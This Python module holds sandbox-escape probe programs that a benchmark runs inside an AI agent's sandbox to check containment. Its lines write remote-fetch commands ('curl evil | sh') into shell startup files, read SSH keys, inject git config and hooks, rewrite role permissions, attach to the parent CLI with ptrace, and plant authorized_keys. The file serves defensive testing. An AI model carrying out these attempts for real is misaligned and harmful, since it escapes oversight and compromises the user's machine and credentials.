"""The programs bench/escapes.py runs inside a panel's sandbox, kept as strings (one attempt a
line): PROBE_CODE for the "work" scenario, HOME_PROBE_CODE for the "home" one. Each prints one
JSON object, attempt name -> what it did."""

# ruff: noqa: E501  (one attempt a line)

# The probe: each attempt prints `name: ok ...` when it got through, `name: refused ...`
# when it did not. Names that the host judges on its files only report what they did.
PROBE_CODE = r'''
import ctypes, fcntl, json, os, socket, subprocess, sys, termios
R = {}
def attempt(name, fn):
    try:
        R[name] = "ok " + str(fn())[:80]
    except Exception as exc:
        R[name] = "refused " + type(exc).__name__
W, HOME, OUT, EXTRA, SHARED = sys.argv[1:6]
LISTENER = int(sys.argv[6])
def _stat(p, name):
    try:
        with open(f"/proc/{p}/{name}", "rb") as f:
            return f.read().decode(errors="replace")
    except OSError:
        return ""
def _parent(p):
    fields = _stat(p, "stat").rpartition(")")[2].split()
    return int(fields[1]) if len(fields) > 1 else 0
def others():
    """The CLI and the relay above the shell that started this probe: what a command must
    not reach. Never further up: run unconfined, everything above the CLI (the test runner,
    CI, the machine's own services) is not a target, and an attach to it would stop it."""
    found, p = [], _parent(os.getppid())
    while p > 1:
        if _stat(p, "comm").strip() == "claude" or "relay.py" in _stat(p, "cmdline"):
            found.append(p)
        elif found or _stat(p, "comm").strip() not in ("bash", "sh", "dash"):
            break  # the shells between this probe and the CLI are passed over
        p = _parent(p)
    return found
def each_other(fn):
    got = [str(fn(p)) for p in others() if _try(fn, p)]
    if got:
        return "reached " + ", ".join(got)
    raise PermissionError(f"none of {len(others())}")
def _try(fn, p):
    try:
        fn(p)
        return True
    except Exception:
        return False
def write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return path
def sh(cmd):
    done = subprocess.run(cmd, shell=True, capture_output=True, text=True)
    if done.returncode:
        raise PermissionError(done.stderr.strip()[-60:])
    return "done"
def connect_unix(path):
    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.close(); return path
def gateway():
    names = [n for n in os.listdir("/run/mnemara") if n.endswith(".sock")]
    if not names:
        raise FileNotFoundError("no sockets")
    return [connect_unix("/run/mnemara/" + n) for n in names]
def port(n, payload):
    s = socket.create_connection(("127.0.0.1", n), 2)
    s.sendall(payload)
    s.settimeout(3)
    got = s.recv(64)
    if not got:
        raise ConnectionResetError("closed at once")
    return got
libc = ctypes.CDLL(None, use_errno=True)
def ptrace(p):
    # PTRACE_SEIZE: the same permission as an attach, without the SIGSTOP an attach sends (a
    # tracer that ends before it collects that stop leaves its tracee stopped for good).
    if libc.ptrace(0x4206, p, None, None) != 0:
        raise PermissionError(ctypes.get_errno())
    return p
def getfd(p):
    pidfd = os.pidfd_open(p)
    fd = libc.syscall(438, pidfd, 3, 0)
    if fd < 0:
        raise PermissionError(ctypes.get_errno())
    return p
def tiocsti():
    for fd in (0, 1, 2):
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
            return fd
        except OSError:
            continue
    raise PermissionError("no terminal took it")
attempt("outside_write", lambda: write(OUT + "/planted", "x"))
attempt("home_startup_file", lambda: write(HOME + "/.bashrc", "\ncurl evil | sh\n", "a"))
attempt("ssh_key_read", lambda: open(HOME + "/.ssh/id_rsa").read())
attempt("readable_area_write", lambda: write(SHARED + "/planted", "x"))
FSMON = open(W + "/fsmonitor.txt").read()
attempt("git_config", lambda: write(W + "/.git/config", "\n" + FSMON, "a"))
attempt("git_hook", lambda: write(W + "/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/x\n"))
attempt("git_rename", lambda: sh(f"cd {W} && mv .git .git-old && mkdir .git && cp fsmonitor.txt .git/config"))
attempt("git_commondir", lambda: sh(f"cd {W} && mkdir -p evil && cp fsmonitor.txt evil/config && echo {W}/evil > .git/commondir"))
attempt("role_doc_write", lambda: write(W + "/roles/eng.md", "---\ncommands: ['.*']\n---\n"))
attempt("peer_role_doc_write", lambda: write(W + "/roles/qa.md", "---\ncommands: ['.*']\n---\n"))
attempt("instance_role_doc_write", lambda: write(W + "/roles/ops.md", "---\ncommands: ['.*']\n---\n"))
attempt("role_doc_via_symlink", lambda: (os.symlink(W + "/roles", W + "/roles-link"), write(W + "/roles-link/eng.md", "pwned")))
attempt("role_doc_parent_rename", lambda: sh(f"cd {W} && mv roles roles-old && mkdir roles && echo pwned > roles/eng.md"))
attempt("team_file_write", lambda: write(W + "/team.toml", "[team]\nsandbox = 'off'\n", "a"))
attempt("envrc_create", lambda: write(W + "/.envrc", "curl evil | sh\n"))
attempt("git_init_new_area", lambda: sh(f"cd {EXTRA} && git init -q && cp {W}/fsmonitor.txt .git/config"))
attempt("state_read", lambda: open(W + "/.mnemara/eng/config.json").read())
attempt("state_rename", lambda: sh(f"cd {W} && mv .mnemara state-old"))
attempt("bus_read", lambda: open(W + "/data/bus.sqlite").read() or (_ for _ in ()).throw(PermissionError("empty")))
attempt("bus_parent_rename", lambda: sh(f"cd {W} && mv data data-old && mkdir data && echo forged > data/bus.sqlite"))
attempt("hard_link_out", lambda: os.link(OUT + "/secret.txt", W + "/linked.txt"))
attempt("symlink_out", lambda: (os.symlink(OUT, W + "/out-link"), write(W + "/out-link/via-link", "x")))
attempt("tcp_out", lambda: socket.create_connection(("127.0.0.1", LISTENER), 2))
attempt("gateway_sockets", gateway)
attempt("relay_model_port", lambda: port(18080, b"GET /v1/models HTTP/1.0\r\n\r\n"))
attempt("relay_proxy_port", lambda: port(18081, b"CONNECT example.org:443 HTTP/1.1\r\n\r\n"))
attempt("proc_mem", lambda: each_other(lambda p: open(f"/proc/{p}/mem", "rb").close() or p))
attempt("proc_environ", lambda: each_other(lambda p: open(f"/proc/{p}/environ", "rb").read(1) and p))
attempt("proc_root", lambda: each_other(lambda p: os.listdir(f"/proc/{p}/root/run/mnemara") and p))
def open_fds(p):
    opened = 0
    for n in os.listdir(f"/proc/{p}/fd"):
        try:
            os.close(os.open(f"/proc/{p}/fd/{n}", os.O_RDONLY))
            opened += 1
        except OSError as exc:
            if exc.errno == 6:  # ENXIO: a socket, reached but not opened: still a way in
                opened += 1
    if not opened:
        raise PermissionError("no descriptor opened")
    return p
attempt("proc_fd", lambda: each_other(open_fds))
attempt("ptrace", lambda: each_other(ptrace))
attempt("pidfd_getfd", lambda: each_other(getfd))
attempt("tiocsti", tiocsti)
attempt("docker_socket", lambda: connect_unix("/var/run/docker.sock"))
attempt("agent_socket", lambda: connect_unix(os.environ["SSH_AUTH_SOCK"]))
print(json.dumps(R))
'''

HOME_PROBE_CODE = r"""
import json, os, subprocess
R = {}
H = os.getcwd()  # the working directory is the home directory
def sh(name, cmd):
    env = {**os.environ, "H": H}
    done = subprocess.run(cmd, shell=True, capture_output=True, text=True, env=env)
    R[name] = "ok" if done.returncode == 0 else "refused " + done.stderr.strip()[-60:]
sh("home_new_zshrc", "echo 'curl evil | sh' > $H/.zshrc")
sh("home_new_gitconfig", "printf '[core]\\n\\tpager = touch /tmp/x\\n' > $H/.gitconfig")
sh("home_new_ssh", "mkdir -p $H/.ssh && echo key > $H/.ssh/authorized_keys")
sh("home_autostart", "mkdir -p $H/.config/autostart && echo x > $H/.config/autostart/x.desktop")
sh("home_local_bin", "mkdir -p $H/.local/bin && printf '#!/bin/sh\\n' > $H/.local/bin/git")
sh("home_config_rename", "mv $H/.config $H/.config-old && mkdir -p $H/.config/autostart")
sh("home_local_rename", "mv $H/.local $H/.local-old && mkdir -p $H/.local/bin")
print(json.dumps(R))
"""
